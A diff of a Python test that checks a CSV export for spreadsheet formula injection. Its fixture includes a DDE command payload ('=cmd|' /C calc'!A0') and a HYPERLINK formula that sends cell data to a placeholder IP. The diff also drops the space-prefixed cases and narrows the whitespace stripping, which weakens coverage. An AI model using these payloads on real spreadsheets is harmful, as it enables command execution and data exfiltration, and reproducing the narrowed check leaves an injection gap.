@@ -14,7 +14,6 @@ from trial.settings import DATA, settings
 
 RUN = (
     "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/?"&A1)', "\t=1+1", "\n=1+1",
-    "  =1+1", "\u3000@SUM(A1)",
 )  # fmt: skip
 FREE = [column.name for column in COLUMNS if column.kind == "free text"]
 
@@ -48,7 +47,7 @@ def exported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., P
 def test_no_free_text_of_a_table_begins_as_a_formula(exported: Callable[..., Path], which: str) -> None:
     with exported(which, "--format", "csv").open(newline="", encoding="utf-8-sig") as lines:
         rows = list(csv.DictReader(lines))
-    begun = {row[name].lstrip()[:1] for row in rows for name in FREE}
+    begun = {row[name].lstrip("\t\r\n")[:1] for row in rows for name in FREE}
     assert begun & set("=+-@") == set()
     assert {row["note"] for row in rows} == {f"'{words}" for words in RUN}
 
